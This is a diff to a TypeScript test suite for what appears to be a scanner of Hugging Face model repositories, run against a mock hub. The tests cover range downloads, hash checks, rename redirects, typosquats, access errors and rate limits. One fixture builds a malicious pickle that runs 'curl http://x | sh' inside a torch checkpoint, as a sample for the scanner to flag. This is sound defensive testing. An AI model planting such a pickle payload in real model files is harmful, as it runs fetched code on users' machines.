@@ -1,12 +1,14 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { isModelgateError } from '../../src/core/errors.js';
 import { scanHub, type HubScanOptions } from '../../src/engine/scan-hub.js';
 import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
 import { buildZip } from '../../src/formats/zip/builder.js';
 import { sha256 } from '../helpers/fixture-hub.js';
 import { HubProcess } from '../helpers/hub-process.js';
+import { torchStateDict } from '../detectors/pickle/pickles.js';
 import { osSystemPickle, plainPickle } from '../helpers/pickles.js';
 
 const torchZip = (pickle: Buffer): Buffer =>
@@ -20,6 +22,24 @@ let hub: HubProcess;
 let cache: string;
 const env = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({ HF_ENDPOINT: hub.url, HF_HOME: cache, ...extra });
 const opts = (extra: Partial<HubScanOptions> = {}): HubScanOptions => ({ env: env(), transport: { backoffMs: 10 }, ...extra });
+
+async function codeOf(p: Promise<unknown>): Promise<string | undefined> {
+  try {
+    await p;
+  } catch (e) {
+    return isModelgateError(e) ? e.code : String(e);
+  }
+  return undefined;
+}
+
+const big = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [1024, 1024] }], dataBytes: 4 << 20 });
+// A torch.save zip whose pickle references storages 0 and 1, as real checkpoints do.
+const bigZip = buildZip([
+  { name: 'archive/data.pkl', data: torchStateDict().bytes() },
+  { name: 'archive/version', data: Buffer.from('3\n') },
+  { name: 'archive/data/0', data: Buffer.alloc(3 << 20, 7) },
+  { name: 'archive/data/1', data: Buffer.alloc(3 << 20, 8) },
+]);
 
 const evil = torchZip(osSystemPickle('curl http://x | sh'));
 const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [64, 64] }] });
@@ -38,6 +58,19 @@ beforeAll(async () => {
     { path: 'pytorch_model.bin', content: evil },
     { path: 'sub/plain.pkl', content: plainPickle() },
   ]);
+  await hub.addSimpleRepo('acme/big', [
+    { path: 'model.safetensors', content: big },
+    { path: 'pytorch_model.bin', content: bigZip },
+  ]);
+  await hub.addSimpleRepo('acme/gated', [{ path: 'config.json', content: Buffer.from('{}') }], { gated: true });
+  await hub.addSimpleRepo('acme/private', [{ path: 'config.json', content: Buffer.from('{}') }], { private: true });
+  await hub.addSimpleRepo('acme/many', Array.from({ length: 25 }, (_, i) => ({ path: `d${i % 3}/f${i}.json`, content: Buffer.from(`{"i": ${i}}`) })));
+  await hub.rename('oldorg/evil', 'acme/evil');
+  await hub.addToken('good-token');
+});
+beforeEach(async () => {
+  await hub.setFaults({});
+  await hub.clearLog();
 });
 afterAll(async () => {
   await hub.close();
@@ -72,5 +105,129 @@ describe('scan hf:', () => {
     const r = await scanHub(`hf:acme/good@${goodSha}`, opts());
     expect(r.source?.commit).toBe(goodSha);
     expect(r.findings.map((f) => f.ruleId)).not.toContain('repo/unpinned-revision');
+  });
+});
+
+describe('fetching only what each format needs', () => {
+  it('reads a safetensors header and a torch zip directory by range, not the whole files', async () => {
+    const r = await scanHub('hf:acme/big', opts());
+    expect(r.files.map((f) => [f.verdict, f.findings.filter((x) => x.severity !== 'info').map((x) => x.message)])).toEqual([['clean', []], ['clean', []]]);
+    const { log, cdnBytes } = await hub.state();
+    const cdn = log.filter((l) => l.server === 'cdn');
+    expect(cdn.length).toBeGreaterThan(0);
+    expect(cdn.every((l) => l.range !== undefined)).toBe(true);
+    expect(cdnBytes).toBeLessThan((big.length + bigZip.length) / 10);
+    expect(r.fetched.bytes).toBe(cdnBytes);
+  });
+
+  it('--full downloads every file, verifies it and computes the SHA-256', async () => {
+    const r = await scanHub('hf:acme/big', opts({ full: true }));
+    expect(r.files.every((f) => f.sha256Source === 'computed')).toBe(true);
+    expect(r.files.find((f) => f.path === 'model.safetensors')!.sha256).toBe(sha256(big));
+    expect(r.files.flatMap((f) => f.findings).filter((f) => f.ruleId === 'repo/hash-mismatch')).toEqual([]);
+  });
+
+  it('--full reports bytes that differ from the LFS SHA-256 as repo/hash-mismatch', async () => {
+    await hub.setFaults({ corrupt: new Set([sha256(safe)]) });
+    const r = await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: mkdtempSync(join(tmpdir(), 'mg-hub-')) }) }));
+    const st = r.files.find((f) => f.path === 'model.safetensors')!;
+    expect(st.verdict).toBe('malicious');
+    expect(st.findings.find((f) => f.ruleId === 'repo/hash-mismatch')?.message).toContain(sha256(safe));
+  });
+
+  it('resumes a download whose connection broke, with a Range request from where it stopped', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    await hub.setFaults({ dropAfter: new Map([[sha256(bigZip), 1 << 20]]) });
+    const r = await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: home }) }));
+    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.sha256).toBe(sha256(bigZip));
+    const ranges = (await hub.state()).log.filter((l) => l.server === 'cdn' && l.path.includes(sha256(bigZip))).map((l) => l.range);
+    expect(ranges[0]).toBeUndefined();
+    expect(ranges[1]).toMatch(/^bytes=\d+-$/);
+    expect(Number(/=(\d+)-/.exec(ranges[1]!)![1])).toBeGreaterThan(0);
+  });
+
+  it('reports download progress', async () => {
+    const seen: number[] = [];
+    await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: mkdtempSync(join(tmpdir(), 'mg-hub-')) }), onDownload: (_p, n) => seen.push(n) }));
+    expect(seen.length).toBeGreaterThan(1);
+    expect(seen.at(-1)).toBe(bigZip.length);
+  });
+});
+
+describe('the repo as a whole', () => {
+  it('reports a rename redirect and scans the new name', async () => {
+    const r = await scanHub('hf:oldorg/evil', opts());
+    expect(r.source?.redirectedTo).toBe('acme/evil');
+    const redirect = r.findings.find((f) => f.ruleId === 'repo/redirect')!;
+    expect(redirect.severity).toBe('medium');
+    expect(redirect.message).toContain('oldorg/evil to acme/evil');
+    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.verdict).toBe('malicious');
+  });
+
+  it('reports a look-alike name', async () => {
+    await hub.addSimpleRepo('meta-Ilama/Llama-2-7b-chat-hf', [{ path: 'config.json', content: Buffer.from('{}') }]);
+    const r = await scanHub('hf:meta-Ilama/Llama-2-7b-chat-hf', opts());
+    const squat = r.findings.find((f) => f.ruleId === 'repo/typosquat')!;
+    expect(squat.severity).toBe('high');
+    expect(squat.message).toContain('meta-llama');
+  });
+
+  it('lists big repos page by page (Link: rel="next")', async () => {
+    await hub.setFaults({ pageSize: 4 });
+    const r = await scanHub('hf:acme/many', opts());
+    expect(r.files).toHaveLength(25);
+    expect((await hub.state()).log.filter((l) => l.path.includes('/tree/')).length).toBeGreaterThan(6);
+  });
+});
+
+describe('Hub errors', () => {
+  it('gated repo without a token: HUB_ACCESS that says so; with a token it is read, and the token never reaches the storage server', async () => {
+    expect(await codeOf(scanHub('hf:acme/gated', opts()))).toBe('HUB_ACCESS');
+    await expect(scanHub('hf:acme/gated', opts())).rejects.toThrow(/gated.*HF_TOKEN/);
+    await hub.clearLog();
+    const r = await scanHub('hf:acme/gated', opts({ env: env({ HF_TOKEN: 'good-token' }) }));
+    expect(r.files).toHaveLength(1);
+    await scanHub('hf:acme/good', opts({ env: env({ HF_TOKEN: 'good-token' }) }));
+    const { log } = await hub.state();
+    expect(log.filter((l) => l.server === 'hub').every((l) => l.authorization === 'Bearer good-token')).toBe(true);
+    expect(log.filter((l) => l.server === 'cdn').some((l) => l.authorization !== undefined)).toBe(false);
+  });
+
+  it('private or missing repo: 401 without a token, 404 with one', async () => {
+    expect(await codeOf(scanHub('hf:acme/private', opts()))).toBe('HUB_ACCESS');
+    expect(await codeOf(scanHub('hf:acme/private', opts({ env: env({ HF_TOKEN: 'wrong-token' }) })))).toBe('HUB_ACCESS');
+    expect((await scanHub('hf:acme/private', opts({ env: env({ HF_TOKEN: 'good-token' }) }))).files).toHaveLength(1);
+    expect(await codeOf(scanHub('hf:acme/nothing', opts({ env: env({ HF_TOKEN: 'good-token' }) })))).toBe('HUB_NOT_FOUND');
+    expect(await codeOf(scanHub('hf:acme/good@no-such-branch', opts()))).toBe('HUB_NOT_FOUND');
+  });
+
+  it('backs off on 429 as the RateLimit header says, then succeeds', async () => {
+    await hub.setFaults({ rateLimit: 2, rateLimitSeconds: 1 });
+    const started = Date.now();
+    const r = await scanHub('hf:acme/good', opts());
+    expect(r.files).toHaveLength(3);
+    expect(Date.now() - started).toBeGreaterThanOrEqual(1900);
+  });
+
+  it('gives up with HUB_RATE_LIMIT when the wait is longer than it accepts', async () => {
+    await hub.setFaults({ rateLimit: 1, rateLimitSeconds: 600 });
+    const p = scanHub('hf:acme/good', opts({ transport: { backoffMs: 10, maxWaitMs: 5000 } }));
+    await expect(p).rejects.toThrow(/retry after 600 s/);
+    await hub.setFaults({ rateLimit: 1, rateLimitSeconds: 600 });
+    expect(await codeOf(scanHub('hf:acme/good', opts({ transport: { backoffMs: 10, maxWaitMs: 5000 } })))).toBe('HUB_RATE_LIMIT');
+  });
+
+  it('HF_HUB_OFFLINE reads the cache only: what was downloaded scans, the rest is an error, never clean', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    expect(await codeOf(scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) })))).toBe('OFFLINE');
+    await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home }) }));
+    await hub.clearLog();
+    const r = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    expect((await hub.state()).log).toEqual([]);
+    expect(r.source?.commit).toBe(goodSha);
+    expect(r.files.every((f) => f.verdict === 'error')).toBe(true);
+    await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
+    const again = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    expect(again.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('clean');
   });
 });
